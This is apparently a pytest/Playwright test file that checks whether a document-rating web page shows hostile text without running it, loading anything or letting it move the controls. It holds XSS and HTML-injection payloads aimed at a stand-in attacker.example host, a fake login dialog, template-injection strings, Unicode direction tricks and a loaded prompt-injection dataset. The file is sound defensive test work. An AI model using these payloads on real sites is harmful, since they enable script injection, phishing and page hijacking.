"""Documents full of attacks are text: nothing runs, leaves the page, or moves its controls."""

from __future__ import annotations

import itertools
import json
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

from rated_pages import SCALE, Rater, Raters, document, grading_of, own_requests

MARKUP = """\
<script>document.title = 'taken'; window.taken = 1; alert(1)</script>
</script><script src="https://attacker.example/x.js"></script>
<style>* { display: none !important; }</style>
<link rel="stylesheet" href="//attacker.example/x.css">
<img src="https://attacker.example/p.png" onerror="window.taken = 1">
<svg onload="window.taken = 1"><math><mtext><style><img src=x onerror=alert(1)>
<iframe src="https://attacker.example/" srcdoc="<script>parent.taken = 1</script>"></iframe>
<base href="https://attacker.example/">
<meta http-equiv="refresh" content="0; url=https://attacker.example">
<form action="https://attacker.example"><input name="note">
<button accesskey="1" autofocus>Saved: 3</button></form>
<a href="javascript:window.taken=1" style="position:fixed;inset:0;z-index:99">everywhere</a>
<dialog open>Session ended. <a href="https://attacker.example">Log in</a></dialog>
<template><div id="actions"></div></template> <textarea> <!-- <title> <plaintext> <xmp> <noscript>
{{constructor.constructor('window.taken = 1')()}} ${alert(1)} %3Cscript%3E
&lt;script&gt; \\u003cscript\\u003e
"""
UNSEEN = (
    "\u202eright to left\u202c \u2066isolate \u2067never closed \u200b\u200c\u200d\ufeff\u2060"
    "\U000e0049\U000e0067 \x00\x1b[2J\x07 \x85\u2028\u2029 half \ud83d a\u0300" + "\u0353" * 400
)
HUGE = "W" * 4000 + " https://example.org/" + "a-path/" * 200 + " " + "\u0e01\u0e33" * 500
NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "%s %d", "null", "undefined"]


def attacked(text: str) -> dict[str, Any]:
    """A pair that holds a text everywhere where a text can stand."""
    made = document(
        text, text, title=text, path=text, name=text.encode("utf-8", "replace").decode()
    )
    topic = dict.fromkeys(("text", "description", "narrative"), made["title"])
    return {"query": topic, "document": made, "notice": made["title"]}


BENIGN = attacked("Cats sleep on sofas.")
PARTS = ("#choices", "#others", "#open-help", "#note")
"""Parts of the page that stand in the same place whatever a document holds."""


def widths(rater: Rater) -> list[Any]:
    """The part's size and its side, which no text may change; the top holds the query."""
    boxes = [rater.page.locator(part).bounding_box() for part in PARTS]
    return [(box["x"], box["width"], box["height"]) for box in boxes if box]


def assert_inert(rater: Rater, grades: int) -> None:
    page = rater.page
    assert rater.problems == []
    assert all(not own.startswith(("http", "ws", "data:text")) for own in own_requests(rater))
    assert page.evaluate("[window.taken, document.forms.length, location.href]") == [
        None,
        2,  # those of the two dialogs
        rater.address,
    ]
    assert "–" in page.title()
    within = "[...document.querySelectorAll('main *, #query *, #topic *')].map(e => e.localName)"
    made = {"article", "p", "pre", "mark", "h2", "div", "bdi", "button", "kbd"}
    assert set(page.evaluate(within)) <= made
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert len(rater.answers) == grades


def test_no_attack_in_a_text_runs_leaves_or_moves_anything(raters: Raters) -> None:
    attacks = [MARKUP, UNSEEN, HUGE, *NAMES]
    items = [BENIGN, BENIGN, *map(attacked, attacks)]
    rater = raters.rater(grading_of(items))
    expected = widths(rater.press("0", "a"))  # of the second pair, from which one can go back
    for number, _attack in enumerate(attacks, 1):
        assert widths(rater.press("0", "a")) == expected, number
        assert_inert(rater, number + 1)
    rater.press("3").at("ended")
    assert rater.answers[-1].grade == 3


@pytest.mark.sweep
def test_attacks_in_the_scale_are_text(raters: Raters) -> None:
    scale = {**SCALE, 3: MARKUP}
    rater = raters.rater(grading_of([BENIGN] * 2, scale=scale))
    assert_inert(rater.press("3").ready(), 1)  # the answer is written once the next pair is there
    rater.press("i")
    assert_inert(rater, 1)


@pytest.mark.sweep
def test_instructions_to_a_model_or_a_rater_are_text(raters: Raters, shared: Path) -> None:
    kinds = json.loads((shared / "bipia" / "text_attack_train.json").read_text(encoding="utf-8"))
    text = "\n\n".join(itertools.chain.from_iterable(kinds.values()))
    rater = raters.rater(grading_of([attacked(text)]))
    assert_inert(rater.press("a"), 0)
    rater.press("1").at("ended")


def test_no_direction_in_a_text_turns_what_stands_around_it(raters: Raters) -> None:
    rater = raters.rater(grading_of([attacked("\u202e\u2067abc (def)")]))
    text = rater.page.locator("main").inner_text()
    assert r"\u202e\u2067abc (def)" in text
    assert not set("\u202e\u2067") & set(rater.page.content())
